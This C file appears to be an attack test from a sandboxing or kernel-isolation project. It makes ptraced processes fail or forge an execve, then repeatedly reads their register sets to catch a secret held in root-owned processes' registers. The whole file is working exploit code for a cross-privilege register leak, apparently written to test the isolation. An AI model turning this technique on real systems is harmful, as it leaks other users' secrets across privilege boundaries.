// SPDX-License-Identifier: GPL-2.0-only
/* failed-exec - read other processes' registers through a tracee that has lost its host thread
 *
 * An execve() that fails behind the point of no return leaves a task that is about to die, and has
 * no host thread any more. Its tracer stops it there and asks for its vector registers, again and
 * again, while root's processes run, which have a secret in all of their registers and get the host
 * threads that become free. The second time the exec is a stop that it made up, with an image that
 * claims most of the slot.
 */
#include "tests/attack/attack.h"

#include <elf.h>
#include <fcntl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/uio.h>

#define SECRET 0x5ec7e75ec7e75ec7UL
#define PROGRAM "/tmp/fails"
#define TRACEES 12U
#define LOOKS 60
#define REACH 6144 /* the host writes its frames there */
#define FX_SW 464
#define FP_XSTATE_MAGIC1 0x46505853U

static void write_program(void)
{
	struct {
		Elf64_Ehdr header;
		Elf64_Phdr segment;
		uint8_t rest[PAGE];
	} program = {
		.header = { .e_ident = "\x7f"
				       "ELF\2\1\1",
			    .e_type = ET_EXEC,
			    .e_machine = EM_X86_64,
			    .e_version = 1,
			    .e_entry = 0x400000,
			    .e_phoff = sizeof(Elf64_Ehdr),
			    .e_ehsize = sizeof(Elf64_Ehdr),
			    .e_phentsize = sizeof(Elf64_Phdr),
			    .e_phnum = 1 },
		.segment = { .p_type = PT_LOAD,
			     .p_flags = 7,
			     .p_vaddr = 0xffffffff00000000UL,
			     .p_filesz = PAGE,
			     .p_memsz = PAGE,
			     .p_align = PAGE },
	};
	int fd = open(PROGRAM, O_CREAT | O_WRONLY | O_TRUNC, 0755);

	(void)!write(fd, &program, sizeof(program));
	close(fd);
}

/* Root's: in turns, so that each is stopped again and again with the secret in its registers */
static void hold(void)
{
	asm volatile("movq %0, %%xmm5\n punpcklqdq %%xmm5, %%xmm5\n movdqa %%xmm5, %%xmm9\n"
		     "mov %0, %%r12\n mov %0, %%r13\n mov %0, %%r14\n mov %0, %%r15\n"
		     "mov $20000000, %%ecx\n1: dec %%ecx\n jnz 1b\n"
		     "mov $57, %%eax\n syscall\n" /* fork: stops with all registers */
		     :
		     : "r"(SECRET)
		     : "xmm5", "xmm9", "r12", "r13", "r14", "r15", "rax", "rcx", "r11", "memory");
	_exit(0);
}

static void victims(void)
{
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	for (unsigned n = 0;; n++) {
		for (unsigned i = 0; i <= n % 4; i++) {
			if (!fork())
				hold();
		}
		while (wait(NULL) > 0)
			;
	}
}

static void forged_exec(uint64_t slot)
{
	static char *argv[] = { PROGRAM, NULL };
	uint64_t image = slot + SLOT_HEADER - REACH;
	struct native_frame *frame = (struct native_frame *)(image - 1024);

	native_frame_init(frame, NULL, (void *)(image - 512));
	frame->gregs[REG_RAX] = SYS_execve;
	frame->gregs[REG_RDI] = (greg_t)PROGRAM;
	frame->gregs[REG_RSI] = (greg_t)argv;
	frame->gregs[REG_RDX] = (greg_t)environ;
	frame->fpstate = image;
	*(uint32_t *)(image + FX_SW) = FP_XSTATE_MAGIC1;
	*(uint32_t *)(image + FX_SW + 4) = REACH;
	claim_stop(SIGSYS, (uint64_t)frame, slot);
}

static pid_t tracee(bool forged)
{
	int status;
	pid_t pid = fork();

	if (!pid) {
		uint64_t slot = own_slot(); /* faults would stop it later */

		ptrace(PTRACE_TRACEME, 0, 0, 0);
		raise(SIGSTOP);
		if (forged)
			forged_exec(slot);
		execl(PROGRAM, PROGRAM, NULL);
		_exit(1);
	}
	waitpid(pid, &status, 0);
	ptrace(PTRACE_CONT, pid, 0, 0);
	waitpid(pid, &status, 0);
	return WIFSTOPPED(status) ? pid : 0;
}

/* Of the registers that the kernel shows for @pid, how many are the secret? */
static unsigned look(pid_t pid)
{
	static uint64_t image[SLOT_SIZE / 8];
	static const int sets[] = { NT_X86_XSTATE, NT_PRFPREG, NT_PRSTATUS };
	unsigned found = 0;

	for (unsigned i = 0; i < COUNT(sets); i++) {
		struct iovec iov = { image, sizeof(image) };

		if (ptrace(PTRACE_GETREGSET, pid, sets[i], &iov))
			continue;
		for (size_t n = 0; n < iov.iov_len / 8; n++)
			found += (uint32_t)image[n] == (uint32_t)SECRET;
	}
	return found;
}

static void attack(bool forged)
{
	unsigned stopped = 0, found = 0;

	for (unsigned i = 0; i < TRACEES; i++) {
		pid_t pid = tracee(forged);

		if (!pid)
			continue;
		stopped++;
		for (unsigned n = 0; n < LOOKS; n++) {
			usleep(1000);
			found += look(pid);
		}
		kill(pid, SIGKILL);
		waitpid(pid, NULL, 0);
	}
	printf("%s: %u of %u stopped, %u registers of others\n", forged ? "forged" : "failed",
	       stopped, TRACEES, found);
}

int main(void)
{
	pid_t root;

	catch_faults();
	write_program();
	root = fork();
	if (!root)
		victims();
	if (setgid(1000) || setuid(1000) || prctl(PR_SET_DUMPABLE, 1))
		return 1;
	attack(false);
	attack(true);
	return over();
}
